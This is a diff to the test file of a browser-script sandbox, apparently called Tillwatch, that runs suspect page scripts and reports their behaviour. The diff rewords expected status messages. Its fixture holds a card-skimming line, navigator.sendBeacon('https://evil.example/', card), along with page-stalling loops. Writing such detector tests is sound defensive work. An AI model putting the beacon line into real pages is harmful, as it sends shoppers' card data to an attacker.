@@ -10,7 +10,7 @@ const SENDS = withCard("navigator.sendBeacon('https://evil.example/', card)")
 it('ends a script that spins, says so, and still tells what it did before and does after', async () => {
   const told = await run(`${SENDS} navigator.sendBeacon('https://early.example/'); for (;;);`)
   expect(told.outcome).toBe('partial')
-  expect(told.why).toBe('The script kept the page busy and was ended.')
+  expect(told.why).toBe('The script kept the page busy and was stopped.')
   expect(all(told, 'contacts').map(({ to }) => to)).toContain('early.example')
   expect(all(told, 'sends').map(({ to }) => to)).toEqual(['evil.example'])
 })
@@ -40,7 +40,7 @@ it('tells what was seen until the page crashed', async () => {
 it('fills one field of each kind where the script makes each key slow, and says that it left some out', async () => {
   const slow = "document.addEventListener('keyup', () => { for (let at = 0; at < 6e7; at++); }, true);"
   const told = await run(`${slow} ${SENDS}`, { timeoutMs: 10_000 })
-  expect(told).toMatchObject({ outcome: 'partial', why: 'There was no time to fill in every field.' })
+  expect(told).toMatchObject({ outcome: 'partial', why: 'Time ran out before all fields were filled in.' })
   expect(all(told, 'sends').map(({ to }) => to)).toEqual(['evil.example'])
 })
 
@@ -87,7 +87,7 @@ it('fails where the browser is gone, and says that it was cancelled where it was
   expect(await detonate(own, { text: '1', url: null })).toMatchObject({ outcome: 'failed', behaviours: [] })
   const controller = new AbortController()
   controller.abort()
-  expect(await run(SENDS, { signal: controller.signal })).toMatchObject({ outcome: 'failed', why: 'The run was cancelled.' })
+  expect(await run(SENDS, { signal: controller.signal })).toMatchObject({ outcome: 'failed', why: 'The run was canceled.' })
 })
 
 it('is partial where a script does so much that not all of it is kept, and tells of the card none the less', async () => {
@@ -95,6 +95,6 @@ it('is partial where a script does so much that not all of it is kept, and tells
     for (let at = 0; at < 2500; at++) document.createElement('input').value + document.getElementById('x' + at)
     for (let at = 0; at < 400; at++) document.cookie = 'decoy=' + at
     ${SENDS}`)
-  expect(told).toMatchObject({ outcome: 'partial', why: 'The script did more than is kept.' })
+  expect(told).toMatchObject({ outcome: 'partial', why: 'The script did more than Tillwatch stores.' })
   expect(all(told, 'sends').map(({ what, to }) => `${what} ${to}`)).toEqual(['card evil.example'])
 })
